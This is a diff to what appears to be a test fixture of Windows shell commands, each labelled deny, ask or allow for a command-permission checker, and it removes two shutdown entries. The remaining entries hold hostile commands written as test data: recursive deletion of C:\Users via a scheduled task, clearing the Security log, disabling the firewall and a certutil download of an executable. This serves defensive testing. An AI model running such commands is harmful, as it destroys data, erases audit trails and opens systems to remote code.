@@ -40,7 +40,6 @@ export const windowsTools: ProgramPack = {
     { run: 'schtasks /create /tn x /tr "cmd /c rd /s /q C:\\Users" /sc daily', shell: "cmd", expect: "deny" },
     { run: "taskkill /f /im node.exe", shell: "cmd", expect: "ask" },
     { run: "net user dev /delete", shell: "cmd", expect: "ask" },
-    { run: "shutdown /s /t 0", shell: "cmd", expect: "ask" },
     { run: "wevtutil cl Security", shell: "cmd", expect: "ask" },
     { run: "netsh advfirewall set allprofiles state off", shell: "cmd", expect: "ask" },
     { run: "certutil -urlcache -split -f http://files.example/a.exe a.exe", shell: "cmd", expect: "ask" },
@@ -68,7 +67,6 @@ export const windowsTools: ProgramPack = {
     { run: "schtasks /query /fo list", shell: "cmd", expect: "allow" },
     { run: "net use", shell: "cmd", expect: "allow" },
     { run: "vssadmin list shadows", shell: "cmd", expect: "allow" },
-    { run: "shutdown /a", shell: "cmd", expect: "allow" },
     { run: "wmic cpu get name", shell: "cmd", expect: "allow" },
   ],
 };
